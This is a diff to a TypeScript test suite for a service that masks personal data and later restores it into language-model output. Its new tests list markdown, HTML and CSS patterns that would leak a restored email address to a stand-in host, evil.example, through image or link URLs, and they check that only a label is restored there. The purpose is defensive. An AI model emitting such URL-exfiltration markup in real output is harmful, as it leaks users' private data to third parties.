@@ -82,6 +82,9 @@ function configFile(): string {
         ],
       },
       policy: { directory: policyDirectory() },
+      // URLs the model writes pass the output guard (issue 15 item 13: the exfiltration needs a
+      // URL the guard lets through); the restore must then keep values out of them.
+      output_protection: { exempt_types: ['url'] },
     }),
   );
   return file;
@@ -310,5 +313,82 @@ describe('caller-dependent policy rules are re-decided for the rehydrating calle
     const agent = await answer(KEYS.acmeAgent);
     expect(agent.body.restored_answer).toBe(`Owner: ${MASKED}`);
     expect(agent.text).not.toContain(EMAIL);
+  });
+});
+
+describe('no raw value is restored into a URL or markup', () => {
+  const EMAIL = 'render.victim@example.org';
+  const LABEL = '[email address]';
+
+  /** The exfiltration shapes of threats.md 9 around `token`, and what each must restore to. */
+  function attacks(token: string): { output: string; expected: string } {
+    const shapes = [
+      (t: string) => `![x](https://evil.example/p.png?d=${t})`,
+      (t: string) => `[click](https://evil.example/?d=${t})`,
+      (t: string) => `<img src="https://evil.example/p.png?d=${t}">`,
+      (t: string) => `<IMG SRC=https://evil.example/?${t}>`,
+      (t: string) => `<https://evil.example/?${t}>`,
+      (t: string) => `[ref]: //evil.example/?d=${t}`,
+      (t: string) => `<div style="background:url(//evil.example/?${t})">`,
+      (t: string) => `see https://evil.example/?d=${t}`,
+    ];
+    return {
+      output: `Hello ${token}.\n${shapes.map((shape) => shape(token)).join('\n')}\nBye ${token}.`,
+      expected: `Hello ${EMAIL}.\n${shapes.map((shape) => shape(LABEL)).join('\n')}\nBye ${EMAIL}.`,
+    };
+  }
+
+  it('holds on /v1/rehydrate, output_json, both stream modes and /v1/rehydrate/file', async () => {
+    const made = await postJson(`${server.url}/v1/transform`, { input: `Contact ${EMAIL}` }, as(KEYS.acmeA));
+    const token = /\{\{email:[^}]+\}\}/.exec(made.body.safe_text as string)![0];
+    const sessionState = made.body.session_state as string;
+    const { output, expected } = attacks(token);
+
+    const plain = await postJson(`${server.url}/v1/rehydrate`, { output, session_state: sessionState }, as(KEYS.acmeA));
+    expect(plain.body.restored_text).toBe(expected);
+
+    const json = await postJson(`${server.url}/v1/rehydrate`, { output_json: { reply: output, image: `![x](https://evil.example/?${token})` }, session_state: sessionState }, as(KEYS.acmeA));
+    expect(json.body.restored_json).toEqual({ reply: expected, image: `![x](https://evil.example/?${LABEL})` });
+
+    const sse = await fetch(`${server.url}/v1/rehydrate/stream`, { method: 'POST', headers: { 'content-type': 'application/json', ...as(KEYS.acmeA) }, body: JSON.stringify({ output, session_state: sessionState }) });
+    expect(sseFrames(await sse.text()).map((frame) => frame.restored_text ?? '').join('')).toBe(expected);
+
+    // Deltas of 3 characters: each context opens deltas before its token, and tokens are split.
+    const chars = Array.from(output);
+    const deltas: string[] = [];
+    for (let index = 0; index < chars.length; index += 3) deltas.push(chars.slice(index, index + 3).join(''));
+    const body = [{ session_state: sessionState }, ...deltas.map((delta) => ({ delta }))].map((line) => JSON.stringify(line)).join('\n');
+    const incremental = await fetch(`${server.url}/v1/rehydrate/stream`, { method: 'POST', headers: { 'content-type': 'application/x-ndjson', ...as(KEYS.acmeA) }, body: `${body}\n` });
+    const frames = sseFrames(await incremental.text());
+    expect(frames.map((frame) => frame.restored_text ?? '').join('')).toBe(expected);
+    expect(frames.length).toBeGreaterThan(3);
+
+    for (const [name, content] of [
+      ['reply.md', output],
+      ['reply.html', `<html><body><p>${token}</p><img src="https://evil.example/p.png?d=${token}"></body></html>`],
+    ] as const) {
+      const form = new FormData();
+      form.append('session_state', sessionState);
+      form.append('file', new Blob([content]), name);
+      const file = await fetch(`${server.url}/v1/rehydrate/file`, { method: 'POST', headers: as(KEYS.acmeA), body: form });
+      const restored = await file.text();
+      expect(file.status).toBe(200);
+      expect(restored).toBe(name.endsWith('.md') ? expected : `<html><body><p>${EMAIL}</p><img src="https://evil.example/p.png?d=${LABEL}"></body></html>`);
+    }
+  });
+
+  it('holds on /v1/rag/answer', async () => {
+    const ingested = await postJson(`${server.url}/v1/rag/ingest`, { text: `Reach ${EMAIL}.`, corpus_id: 'render-kb', document_metadata: { classification: 'public' } }, as(KEYS.acmeA));
+    const chunk = ingested.body.chunks[0];
+    const query = await postJson(`${server.url}/v1/rag/query`, { query: 'how to reach them?', corpus_id: 'render-kb' }, as(KEYS.acmeA));
+    const built = await postJson(
+      `${server.url}/v1/rag/context`,
+      { chunks: [chunk.safe_text], document_sessions: [chunk.chunk_session_state], session_state: query.body.session_state, corpus_id: 'render-kb' },
+      as(KEYS.acmeA),
+    );
+    const token = /\{\{email:[^}]+\}\}/.exec(built.body.safe_chunks[0] as string)![0];
+    const { output, expected } = attacks(token);
+    const answer = await postJson(`${server.url}/v1/rag/answer`, { answer: output, session_state: built.body.session_state }, as(KEYS.acmeA));
+    expect(answer.body.restored_answer).toBe(expected);
   });
 });
